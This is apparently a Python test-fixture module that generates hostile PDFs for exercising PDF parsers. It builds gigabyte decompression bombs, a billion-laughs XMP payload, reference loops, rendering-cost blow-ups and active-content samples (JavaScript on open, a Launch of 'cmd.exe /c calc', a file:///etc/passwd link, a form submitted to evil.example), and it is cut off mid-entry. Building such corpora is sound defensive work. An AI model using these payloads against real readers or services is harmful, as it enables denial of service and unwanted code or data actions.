"""Hostile PDFs by kind and name."""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable
from functools import cache

from attacks.raw_pdf import BARE, FORM, PAGE, SHEET, chain, doubling, drawing, packed, raw, stream, tree_of

Make = Callable[[], bytes]

_TEXT = b".5 g 50 50 100 100 re f "


@cache
def zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1_000_000)
    return b"".join([packer.compress(block) for _ in range(size // len(block))] + [packer.flush()])


@cache
def nested_zeros(times: int) -> bytes:
    body = zeros(1_000_000_000)
    for _ in range(times - 1):
        body = zlib.compress(body, 9)
    return body


_IMAGE = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceGray"


def image(width: int, height: int, body: bytes, more: bytes, bits: int = 8) -> bytes:
    """An image object."""
    return stream(body, _IMAGE % (width, height, bits) + more)


def jpeg_head(width: int, height: int) -> bytes:
    """A JPEG that says this size, with hardly anything in it."""
    import io

    from PIL import Image

    written = io.BytesIO()
    Image.new("L", (16, 16), 128).save(written, "JPEG")
    body = bytearray(written.getvalue())
    at = body.index(b"\xff\xc0") + 5
    body[at : at + 4] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(body)


def jpx_head(width: int, height: int) -> bytes:
    """A JPEG 2000 code stream that says this size."""
    size = (
        b"\xff\x51"
        + (41).to_bytes(2, "big")
        + bytes(2)
        + b"".join(each.to_bytes(4, "big") for each in (width, height, 0, 0, width, height, 0, 0))
        + (1).to_bytes(2, "big")
        + bytes((7, 1, 1))
    )
    coding = bytes.fromhex("ff52000c00000001000504040000")
    quantised = bytes.fromhex("ff5c0013404048485048485048485048485048485048"[:42])
    return b"\xff\x4f" + size + coding + quantised + b"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x01\xff\x93\xff\xd9"


def scans(count: int, side: int) -> bytes:
    """A progressive JPEG with the same scan over and over."""
    import io

    from PIL import Image

    written = io.BytesIO()
    Image.new("L", (side, side), 128).save(written, "JPEG", progressive=True)
    body = written.getvalue()
    starts = [at for at in range(len(body) - 1) if body[at : at + 2] == b"\xff\xda"]
    last = body[starts[-1] : -2]
    return body[:-2] + last * count + b"\xff\xd9"


def _random(size: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(size)


def _object_stream_loop() -> bytes:
    return raw([b"<<" + SHEET + b"/Contents 4 0 R>>", stream(b"5 0 6 9 ", b"/Type/ObjStm/N 2/First 8/Extends 4 0 R")])


def _previous_loop() -> bytes:
    body = raw([BARE % b"4 0 R", stream(_TEXT)])
    at = body.rindex(b"startxref\n") + 10
    start = int(body[at:].split(b"\n")[0])
    return body.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


def _long_previous(count: int) -> bytes:
    out = bytearray(raw([BARE % b"4 0 R", stream(_TEXT)]))
    for _ in range(count):
        before = int(out[out.rindex(b"startxref\n") + 10 :].split(b"\n")[0])
        start = len(out)
        out += b"xref\n0 0\ntrailer\n<</Size 5/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (before, start)
    return bytes(out)


def _big_xref() -> bytes:
    body = raw([BARE % b"4 0 R", stream(_TEXT)])
    return body.replace(b"xref\n0 5\n", b"xref\n0 99999999\n")


def _xref_stream_bomb() -> bytes:
    head = b"%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    index = (
        b"5 0 obj\n"
        + stream(zeros(500_000_000), b"/Type/XRef/Size 99999999/W[1 2 1]/Root 1 0 R/Filter/FlateDecode")
        + b"\nendobj\n"
    )
    return head + index + b"startxref\n%d\n%%%%EOF" % len(head)


def _deep_pages(levels: int) -> bytes:
    nodes = [b"<</Type/Pages/Count 1/Kids[%d 0 R]>>" % (number + 3) for number in range(levels)]
    return tree_of([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<<" + SHEET + b">>"])


def _wide_pages(levels: int) -> bytes:
    nodes = [b"<</Type/Pages/Count 1/Kids[%d 0 R %d 0 R]>>" % (number + 3, number + 3) for number in range(levels)]
    return tree_of([b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<<" + SHEET + b">>"])


def _with_root(more: bytes, *objects: bytes) -> bytes:
    """A plain page, 3 and 4, in a document whose catalogue has more entries; `objects` from number 5 on."""
    page = b"<<" + SHEET + b"/Contents 4 0 R/StructParents 0>>"
    return raw([page, stream(_TEXT), *objects], root=b"<</Type/Catalog/Pages 2 0 R" + more + b">>")


def _outline_loop() -> bytes:
    return _with_root(b"/Outlines 5 0 R", b"<</First 6 0 R/Last 6 0 R>>", b"<</Title(a)/Next 6 0 R/First 5 0 R/Parent 5 0 R>>")


def _outline_deep(levels: int) -> bytes:
    items = [b"<</Title(a)/First %d 0 R/Dest[3 0 R/Fit]>>" % (number + 7) for number in range(levels)]
    return _with_root(b"/Outlines 5 0 R", b"<</First 6 0 R>>", *items, b"<</Title(z)>>")


def _outline_wide() -> bytes:
    """Each entry's next and first are the same: two to the power of the depth without a memory."""
    items = [b"<</Title(a)/First %d 0 R/Next %d 0 R>>" % (number + 7, number + 7) for number in range(60)]
    return _with_root(b"/Outlines 5 0 R", b"<</First 6 0 R>>", *items, b"<</Title(z)>>")


_MARKED = b"/MarkInfo<</Marked true>>/StructTreeRoot 5 0 R"


def _structure_loop() -> bytes:
    return _with_root(
        _MARKED, b"<</Type/StructTreeRoot/K 6 0 R/ParentTree 7 0 R>>", b"<</S/P/P 5 0 R/K[6 0 R 5 0 R]>>", b"<</Kids[7 0 R]>>"
    )


def _structure_deep(levels: int) -> bytes:
    items = [b"<</S/Sect/K %d 0 R>>" % (number + 7) for number in range(levels)]
    return _with_root(_MARKED, b"<</Type/StructTreeRoot/K 6 0 R>>", *items, b"<</S/P>>")


def _structure_wide() -> bytes:
    items = [b"<</S/Sect/K[%d 0 R %d 0 R]>>" % (number + 7, number + 7) for number in range(40)]
    return _with_root(_MARKED, b"<</Type/StructTreeRoot/K 6 0 R>>", *items, b"<</S/P>>")


def _structure_many(count: int) -> bytes:
    return _with_root(_MARKED, b"<</Type/StructTreeRoot/K 6 0 R>>", b"<</S/Sect/K[" + b"<</S/P>>" * count + b"]>>")


def _parent_tree_wide() -> bytes:
    nodes = [b"<</Kids[%b]>>" % (b"%d 0 R " % (number + 8) * 1000) for number in range(10)]
    return _with_root(
        _MARKED, b"<</Type/StructTreeRoot/K 6 0 R/ParentTree 7 0 R>>", b"<</S/P/Pg 3 0 R/K 0>>", *nodes, b"<</Nums[0[6 0 R]]>>"
    )  # fmt: skip


def _roles_loop() -> bytes:
    return _with_root(_MARKED, b"<</Type/StructTreeRoot/K 6 0 R/RoleMap<</A/B/B/A>>>>", b"<</S/A>>")


def _mask_loop() -> bytes:
    form = stream(b"/G gs", b"/Subtype/Form/BBox[0 0 9 9]/Resources 6 0 R")
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources 6 0 R>>"
    return raw([page, stream(b"/G gs"), form, b"<</ExtGState<</G<</SMask<</S/Alpha/G 5 0 R>>>>>>>>"])


def _functions() -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Shading<</S 5 0 R>>>>>>"
    stitch = b"<</FunctionType 3/Domain[0 1]/Bounds[.5]/Encode[0 1 0 1]/Functions[%d 0 R %d 0 R]>>"
    steps = [stitch % (number + 7, number + 7) for number in range(30)]
    last = b"<</FunctionType 2/N 1/Domain[0 1]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 6 0 R>>"
    return raw([page, stream(b"/S sh"), shading, *steps, last])


def _white_fax(side: int) -> bytes:
    """A picture of so many white dots each way in CCITT group 4: one bit a line."""
    return image(
        side, side, b"\xff" * (side // 8 + 1), b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns %d/Rows %d>>" % (side, side), 1
    )


def _postscript(count: int) -> bytes:
    program = b"{" + b"dup mul " * count + b"}"
    function = stream(program, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1 0 1]/Matrix[595 0 0 842 0 0]/Function 6 0 R>>"
    return drawing(b"/S sh", b"/Shading<</S 5 0 R>>", shading, function)


def _shadings(count: int) -> bytes:
    shading = b"<</ShadingType 3/ColorSpace/DeviceRGB/Coords[300 400 0 300 400 500]/Extend[true true]/Function 6 0 R>>"
    return drawing(
        b"/S sh " * count, b"/Shading<</S 5 0 R>>", shading, b"<</FunctionType 2/N 1.5/Domain[0 1]/C0[0 0 0]/C1[1 1 1]>>"
    )


def _fills(count: int) -> bytes:
    state = b"<</ca .5/BM/Luminosity>>"
    return drawing(b"/G gs " + b"0 0 595 842 re f " * count, b"/ExtGState<</G 5 0 R>>", state)


def _masks(count: int) -> bytes:
    state = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    group = stream(b"0 0 595 842 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>")
    return drawing(b"q /G gs 0 0 595 842 re f Q " * count, b"/ExtGState<</G 5 0 R>>", state, group)


_MULTIPLY = b"/ExtGState<</M<</BM/Multiply>>>>"


def _blended(count: int, *, grouped: bool = False) -> bytes:
    """Everything that lies under what is blended is painted again: work that grows with the square."""
    content = b"/M gs " + b"0 0 595 842 re f " * count
    group = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency>>/Resources<<" + _MULTIPLY + b">>"
    return drawing(b"/F Do" if grouped else content, _MULTIPLY + b"/XObject<</F 5 0 R>>", stream(content, group))


def _turned(count: int) -> bytes:
    return drawing(b"/M gs .7 .7 -.7 .7 300 0 cm " + b"0 0 800 .1 re f " * count, _MULTIPLY)


def _same_dot(times: int, before: bytes = b"") -> bytes:
    content = before + b"q 595 0 0 842 0 0 cm " + b"/I Do " * times
    return drawing(content, _MULTIPLY + b"/XObject<</I 5 0 R>>", image(1, 1, b"x", b""))


def _deep_mask(inside: int, times: int) -> bytes:
    group = stream(b"0 0 595 842 re f " * inside, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency>>")
    state = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    return drawing(b"/G gs " + b"0 0 595 842 re f " * times, b"/ExtGState<</G 5 0 R>>", state, group)


def _tiles(step: float) -> bytes:
    tile = stream(
        b"0 0 .01 .01 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep %f/YStep %f/Resources<<>>" % (step, step),
    )
    return drawing(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern<</P 5 0 R>>", tile)


def _same_image(times: int, side: int) -> bytes:
    return drawing(b"q 595 0 0 842 0 0 cm /I Do Q " * times, b"/XObject<</I 5 0 R>>", _white_fax(side))


def _same_pictures(count: int, body: bytes, more: bytes) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"/I%d Do " % number for number in range(count))
    return drawing(content, b"/XObject<<" + names + b">>", *[image(9, 9, body, more)] * count)


def _many_images(count: int, side: int) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"q 595 0 0 842 0 0 cm /I%d Do Q " % number for number in range(count))
    return drawing(content, b"/XObject<<" + names + b">>", *[_white_fax(side)] * count)


def _inline_images(count: int, side: int) -> bytes:
    picture = b"q 595 0 0 842 0 0 cm BI /W %d /H %d /BPC 1 /CS /G /F /CCF /DP <</K -1 /Columns %d /Rows %d>> ID " % (
        side,
        side,
        side,
        side,
    )
    return drawing((picture + b"\xff" * (side // 8 + 1) + b"\nEI Q ") * count)


def _inline_said(head: bytes, coding: bytes = b"/Fl", body: bytes | None = None) -> bytes:
    """An inline picture of 60,000 × 60,000 dots whose head says so in another way than most."""
    return drawing(b"BI " + head + b" /BPC 1 /CS /G /F " + coding + b" ID " + (body or zeros(450_000_000)) + b"\nEI")


def _mesh(count: int) -> bytes:
    body = bytes((0, 0, 0, 0, 0, 0, 255, 0, 255, 0, 255, 255)) * count
    shading = packed(
        body,
        b"/ShadingType 4/ColorSpace/DeviceGray/BitsPerCoordinate 8/BitsPerComponent 8/BitsPerFlag 8/Decode[0 595 0 842 0 1]",
    )
    return drawing(b"/S sh", b"/Shading<</S 5 0 R>>", shading)


BOMBS: dict[str, Make] = {
    "content of 1 GB": lambda: raw([BARE % b"4 0 R", stream(zeros(1_000_000_000), b"/Filter/FlateDecode")]),
    "content deflated three times": lambda: raw(
        [BARE % b"4 0 R", stream(nested_zeros(3), b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")]
    ),
    "1,000 filters": lambda: raw([BARE % b"4 0 R", stream(b"x", b"/Filter[" + b"/ASCIIHexDecode" * 1000 + b"]")]),
    "run lengths": lambda: raw([BARE % b"4 0 R", stream(b"\x81q" * 4_000_000, b"/Filter/RunLengthDecode")]),
    "picture of 5,000,000 runs of one byte": lambda: raw(
        [PAGE, stream(b"/A Do"), image(3, 3, b"\0x" * 5_000_000, b"/Filter/RunLengthDecode")]
    ),
    "deflated runs of one byte": lambda: raw(
        [PAGE, stream(b"/A Do"), image(3, 3, zlib.compress(b"\0x" * 5_000_000, 9), b"/Filter[/FlateDecode/RunLengthDecode]")]
    ),
    "five pictures in runs of one byte": lambda: _same_pictures(5, b"\0x" * 1_900_000, b"/Filter/RunLengthDecode"),
    "LZW": lambda: raw([BARE % b"4 0 R", stream(_random(5_000_000), b"/Filter/LZWDecode")]),
    "ASCII85 of 15 MB": lambda: raw([BARE % b"4 0 R", stream(b"z" * 15_000_000, b"/Filter/ASCII85Decode")]),
    "image of 1 GB": lambda: raw([PAGE, stream(b"/A Do"), image(9, 9, zeros(1_000_000_000), b"/Filter/FlateDecode")]),
    "image deflated twice": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, nested_zeros(2), b"/Filter[/FlateDecode/FlateDecode]")]
    ),
    "image in 12 layers": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, zeros(1_000_000), b"/Filter[" + b"/FlateDecode" * 12 + b"]")]
    ),
    "predictor of 2 billion columns": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, zlib.compress(bytes(100)), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2000000000>>"),
        ]
    ),
    "100 images of 90 MB": lambda: _bomb_images(100),
    "font program of 1 GB": lambda: _font_bomb(),
    "metadata of 1 GB": lambda: _with_root(
        b"/Metadata 5 0 R", stream(zeros(1_000_000_000), b"/Type/Metadata/Subtype/XML/Filter/FlateDecode")
    ),
    "cross-reference of 500 MB": _xref_stream_bomb,
    "cross-reference of 99,999,999": _big_xref,
    "object stream of 1 GB": lambda: raw(
        [BARE % b"4 0 R", stream(zeros(1_000_000_000), b"/Type/ObjStm/N 9999999/First 9/Filter/FlateDecode")]
    ),
    "1,000,000 operators": lambda: drawing(b"0 0 m " * 1_000_000),
    "3,000,000 operators": lambda: drawing(b"0 0 m " * 3_000_000),
    "60 MB of operators": lambda: drawing(b"0 0 m 1 1 l S\n" * 4_300_000),
    "10 MB of one string": lambda: drawing(b"BT (" + b"a" * 10_000_000 + b") Tj ET"),
    "10 MB of brackets": lambda: drawing(b"[" * 10_000_000),
    "10 MB of open strings": lambda: drawing(b"(" * 10_000_000),
    "300,000 short strings never ended": lambda: drawing(b"(a Tj " * 300_000),
    "100,000 inline images never ended": lambda: drawing(b"BI /W 9 ID " * 100_000),
    "500,000 inline image heads": lambda: drawing(b"BI " * 500_000),
    "100,000 marks": lambda: drawing(b"/P <</MCID 0>> BDC EMC " * 100_000),
    "marks with deep dictionaries": lambda: drawing(b"/P " + b"<</A " * 100_000 + b"BDC EMC "),
    "marks with long dictionaries": lambda: drawing((b"/P <<" + b"/A 1" * 2_000 + b">> BDC EMC ") * 1_000),
    "200,000 saves": lambda: drawing(b"q " * 200_000),
    "200,000 resources": lambda: drawing(
        b"/G gs", b"/ExtGState<<" + b"".join(b"/G%d<</CA 1>>" % each for each in range(200_000)) + b">>"
    ),
    "1,000,000 objects": lambda: raw([BARE % b"4 0 R", stream(_TEXT), *[b"null"] * 500_000]),
    "deep arrays": lambda: raw([BARE % (b"[" * 100_000)]),
    "deep dictionaries": lambda: raw([BARE % (b"<</A" * 100_000)]),
    "3 MB of one name": lambda: drawing(b"/" + b"a" * 3_000_000 + b" gs"),
    "entry of 10 MB in hexadecimal": lambda: raw([b"<<" + SHEET + b"/Q<" + b"41" * 5_000_000 + b">>>"]),
    "entry of 3,000,000 escapes": lambda: raw([b"<<" + SHEET + b"/Q(" + b"\\101" * 3_000_000 + b")>>"]),
    "packed entry of 10 MB": lambda: _packed_entry(5_000_000),
    "mark with 9 MB of words": lambda: drawing(b"/P<</A(" + b"a" * 9_000_000 + b")>>BDC EMC "),
    "unicode map of 20 MB": lambda: _map_bomb(),
    "unicode map of sections never ended": lambda: _letters(packed(b"beginbfchar <" * 100_000)),
    "unicode maps for 40 fonts": lambda: _letters(packed(b"beginbfrange " + b"]" * 1_500_000), 40),
    "unicode map of wide ranges": lambda: _map_ranges(),
    "glyph widths without end": lambda: _widths(),
    "XMP laughs": lambda: _with_root(b"/Metadata 5 0 R", stream(_laughs(), b"/Type/Metadata/Subtype/XML")),
}


def _bomb_images(count: int) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"/I%d Do " % number for number in range(count))
    return drawing(
        content, b"/XObject<<" + names + b">>", *[image(9000, 9000, zeros(90_000_000), b"/Filter/FlateDecode")] * count
    )


def _font_bomb() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/FontDescriptor 6 0 R>>"
    described = b"<</Type/FontDescriptor/FontName/A/Flags 32/FontFile2 7 0 R>>"
    return drawing(
        b"BT /F 9 Tf 50 50 Td (A) Tj ET",
        b"/Font<</F 5 0 R>>",
        font,
        described,
        stream(zeros(1_000_000_000), b"/Filter/FlateDecode"),
    )


def _map_font(body: bytes) -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 65/LastChar 65/Widths[500]/ToUnicode 6 0 R>>"
    return drawing(b"BT /F 9 Tf 50 50 Td (A) Tj ET", b"/Font<</F 5 0 R>>", font, packed(body))


def _map_bomb() -> bytes:
    return _map_font(b"begincmap 100 beginbfchar " + b"<41> <0041>\n" * 1_600_000 + b"endbfchar endcmap")


def _letters(mapped: bytes, fonts: int = 1) -> bytes:
    """A page that shows letters in so many fonts, each with such a map to Unicode."""
    names = b"".join(b"/F%d %d 0 R" % (number, 5 + 2 * number) for number in range(fonts))
    shown = b"".join(b"/F%d 9 Tf(a)Tj " % number for number in range(fonts))
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode %d 0 R>>"
    pairs = [part for number in range(fonts) for part in (font % (6 + 2 * number), mapped)]
    return drawing(b"BT 50 50 Td " + shown + b"ET", b"/Font<<" + names + b">>", *pairs)


def _packed_entry(letters: int) -> bytes:
    """A catalogue with one long string, in an object stream of a few kilobytes."""
    out = bytearray(b"%PDF-1.7\n")
    objects = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<<" + SHEET + b">>",
        4: packed(b"1 0 <</Type/Catalog/Pages 2 0 R/Q<" + b"41" * letters + b">>>", b"/Type/ObjStm/N 1/First 4"),
    }
    rows = [bytes(7), b"\x02" + (4).to_bytes(4, "big") + bytes(2)]
    for number, body in objects.items():
        rows.append(b"\x01" + len(out).to_bytes(4, "big") + bytes(2))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = packed(b"".join(rows), b"/Type/XRef/Size 5/W[1 4 2]/Root 1 0 R")
    return bytes(out) + b"5 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(out))


def _map_ranges() -> bytes:
    return _map_font(
        b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange "
        + b"100 beginbfrange <00000000> <ffffffff> <0041> endbfrange " * 1000
        + b"endcmap"
    )


def _widths() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/W[0 99999999 500 0 99999999 500]/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>"
    return drawing(b"BT /F 9 Tf 50 50 Td <0041> Tj ET", b"/Font<</F 5 0 R>>", font, below)


def _laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n + 1} "{f"&l{n};" * 10}">' for n in range(9))
    return f'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><!DOCTYPE x [<!ENTITY l0 "ha">{levels}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&l9;</x:xmpmeta>'.encode()


LOOPS: dict[str, Make] = {
    "page tree": lambda: raw([b"<</Type/Pages/Count 1/Kids[2 0 R]>>"]),
    "page tree 10,000 deep": lambda: _deep_pages(10_000),
    "page tree two to the 40": lambda: _wide_pages(40),
    "one page 90,000 times": lambda: raw([BARE % b"null"], 90_000),
    "parent of itself": lambda: raw([b"<</Type/Page/Parent 3 0 R/Contents 4 0 R>>", stream(_TEXT)]),
    "/Prev": _previous_loop,
    "5,000 /Prev": lambda: _long_previous(5_000),
    "contents of contents": lambda: raw([BARE % b"4 0 R", b"[4 0 R 4 0 R]"]),
    "length of itself": lambda: raw([BARE % b"4 0 R", b"<</Length 4 0 R>>\nstream\n0 0 m\nendstream"]),
    "object stream in itself": _object_stream_loop,
    "reference to itself": lambda: raw([BARE % b"4 0 R", b"4 0 R"]),
    "outline": _outline_loop,
    "outline 20,000 deep": lambda: _outline_deep(20_000),
    "outline two to the 60": _outline_wide,
    "structure": _structure_loop,
    "structure 20,000 deep": lambda: _structure_deep(20_000),
    "structure two to the 40": _structure_wide,
    "structure of 1,000,000": lambda: _structure_many(1_000_000),
    "parent tree 1000 to the 10": _parent_tree_wide,
    "role map": _roles_loop,
    "form draws itself": lambda: raw([PAGE, stream(b"/A Do"), stream(b"/A Do", FORM % 5)]),
    "forms draw each other": lambda: raw([PAGE, stream(b"/A Do"), stream(b"/A Do", FORM % 6), stream(b"/A Do", FORM % 5)]),
    "mask draws itself": _mask_loop,
    "resources in themselves": lambda: raw(
        [b"<<" + SHEET + b"/Contents 4 0 R/Resources 5 0 R>>", stream(b"/A Do"), b"<</XObject 5 0 R/A 5 0 R>>"]
    ),
    "colour space of itself": lambda: drawing(b"/C cs 1 scn", b"/ColorSpace<</C 5 0 R>>", b"[/Indexed 5 0 R 1 <0011>]"),
    "name tree": lambda: _with_root(b"/Names<</Dests 5 0 R>>", b"<</Kids[5 0 R 5 0 R]>>"),
}

HEAVY: dict[str, Make] = {
    "forms two to the 30": lambda: doubling(30),
    "forms four to the 6": lambda: doubling(6, 4),
    "forms 20 deep": lambda: chain(20),
    "forms two to the 9": lambda: doubling(9),
    "functions two to the 30": _functions,
    "one picture of 140,000,000 dots 100,000 times": lambda: _same_image(100_000, 11_800),
    "1,000 pictures of 140,000,000 dots": lambda: _many_images(1_000, 11_800),
    "500 inline pictures of 140,000,000 dots": lambda: _inline_images(500, 11_800),
    "inline picture of +60,000 × +60,000": lambda: _inline_said(b"/W +60000 /H +60000"),
    "inline picture of /#57 60,000": lambda: _inline_said(b"/#57 60000 /#48 60000"),
    "inline picture with comments in its head": lambda: _inline_said(b"/W%x\n60000 /H%x\n60000"),
    "inline picture with /ID in its head": lambda: _inline_said(b"/Foo /ID /W 60000 /H 60000"),
    "inline JPEG of 65,000 × 65,000, deflated": lambda: _inline_said(
        b"/W 9 /H 9", b"[/Fl /DCT]", zlib.compress(jpeg_head(65_000, 65_000))
    ),
    "JPEG of 65,000 × 65,000 behind other bytes": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, b"xx" + jpeg_head(65_000, 65_000), b"/Filter/DCTDecode")]
    ),
    "JPEG of 65,000 × 65,000 called 9 × 9": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, jpeg_head(65_000, 65_000), b"/Filter/DCTDecode")]
    ),
    "JPEG of 5,000 scans": lambda: raw([PAGE, stream(b"/A Do"), image(2000, 2000, scans(5_000, 2000), b"/Filter/DCTDecode")]),
    "JPEG 2000 of 60,000 × 60,000 called 9 × 9": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, jpx_head(60_000, 60_000), b"/Filter/JPXDecode")]
    ),
    "fax of 60,000 columns called 9": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, b"\xff" * 9000, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>", 1),
        ]
    ),
    "picture in JBIG2": lambda: raw([PAGE, stream(b"/A Do"), image(9, 9, b"x", b"/Filter/JBIG2Decode", 1)]),
    "picture of 2 billion × 2 billion": lambda: raw([PAGE, stream(b"/A Do"), image(2_000_000_000, 2_000_000_000, b"x", b"")]),
    "deflated picture unlike its size": lambda: raw(
        [PAGE, stream(b"/A Do"), image(12_000, 12_000, zeros(1_000_000), b"/Filter/FlateDecode")]
    ),
    "program of 1,000,000 steps a dot": lambda: _postscript(1_000_000),
    "program of 20,000 steps a dot": lambda: _postscript(20_000),
    "shadings over the page 300,000 times": lambda: _shadings(300_000),
    "shadings over the page 2,000 times": lambda: _shadings(2_000),
    "transparent page 300,000 times": lambda: _fills(300_000),
    "masked page 100,000 times": lambda: _masks(100_000),
    "page multiplied 200 times": lambda: _blended(200),
    "page multiplied 200 times, through a plain group": lambda: _blended(200, grouped=True),
    "thin turned lines multiplied 2,000 times": lambda: _turned(2_000),
    "picture of one dot over the page 100,000 times": lambda: _same_dot(100_000),
    "picture of one dot multiplied 200 times": lambda: _same_dot(200, b"/M gs "),
    "mask of 1,000 fills under 500 fills": lambda: _deep_mask(1_000, 500),
    "tiles of 0.001 points": lambda: _tiles(0.001),
    "tiles of 0.06 points": lambda: _tiles(0.06),
    "mesh of 1,000,000 triangles": lambda: _mesh(1_000_000),
    "dashes of 0.0001 points": lambda: drawing(b"[.0001] 0 d 5 w 0 0 m 595 842 l S " * 100),
    "function of 20 inputs": lambda: _samples(20),
    "page of 14,400 × 14,400 points": lambda: raw(
        [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]/Contents 4 0 R>>", stream(_TEXT)]
    ),
}


def _samples(inputs: int) -> bytes:
    size = b"2 " * inputs
    function = stream(
        zlib.compress(bytes(2**inputs)),
        b"/FunctionType 0/Filter/FlateDecode/BitsPerSample 8/Range[0 1]/Size[" + size + b"]/Domain[" + b"0 1 " * inputs + b"]",
    )
    names = b"".join(b"/N%d" % each for each in range(inputs))
    return drawing(
        b"/C cs " + b".5 " * inputs + b"scn 0 0 595 842 re f",
        b"/ColorSpace<</C[/DeviceN[" + names + b"]/DeviceGray 5 0 R]>>",
        function,
    )


_SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def _annotated(annotation: bytes, *objects: bytes) -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Annots[" + annotation + b"]>>"
    return raw([page, stream(_TEXT), *objects])


def _linked(action: bytes, *objects: bytes) -> bytes:
    return _annotated(b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A" + action + b">>", *objects)


_FILE = b"<</Type/Filespec/F(evil.exe)/UF(evil.exe)/EF<</F 5 0 R>>>>"

ACTIVE: dict[str, Make] = {
    "script on opening": lambda: _with_root(b"/OpenAction" + _SCRIPT),
    "script on closing and printing": lambda: _with_root(b"/AA<</WC" + _SCRIPT + b"/WP" + _SCRIPT + b"/DP" + _SCRIPT + b">>"),
    "script by name": lambda: _with_root(b"/Names<</JavaScript<</Names[(a) 5 0 R]>>>>", _SCRIPT),
    "script of a page": lambda: raw(
        [b"<<" + SHEET + b"/Contents 4 0 R/AA<</O" + _SCRIPT + b"/C" + _SCRIPT + b">>>>", stream(_TEXT)]
    ),
    "script of a link": lambda: _linked(_SCRIPT),
    "script behind a web link": lambda: _linked(b"<</S/URI/URI(https://example.org/)/Next" + _SCRIPT + b">>"),
    "script in an address": lambda: _linked(b"<</S/URI/URI(javascript:alert\\(1\\))>>"),
    "address of a file": lambda: _linked(b"<</S/URI/URI(file:///etc/passwd)>>"),
    "address with a line break": lambda: _linked(b"<</S/URI/URI(https://example.org/\\n/JS)>>"),
    "base address": lambda: _with_root(b"/URI<</Base(file:///)>>"),
    "launch": lambda: _linked(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"),
    "go to another file": lambda: _linked(b"<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>"),
    "go to an attachment": lambda: _linked(b"<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>"),
    "submit": lambda: _linked(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>"),
    "import data": lambda: _linked(b"<</S/ImportData/F(data.fdf)>>"),
    "hide": lambda: _linked(b"<</S/Hide/T(a)>>"),
    "named action": lambda: _linked(b"<</S/Named/N/Print>>"),
    "sound and movie": lambda: _annotated(
        b"<</Subtype/Sound/Rect[0 0 9 9]/Sound 5 0 R>><</Subtype/Movie/Rect[0 0 9 9]/Movie<</F(a.avi)>>>>",
        stream(b"x", b"/R 8000"),
    ),
    "rendition": lambda: _linked(b"<</S/Rendition/OP 0/R<</S/MR/C<</S/MCD/D(a.swf)>>>>/JS(app.alert\\(1\\))>>"),
    "rich media": lambda: _annotated(
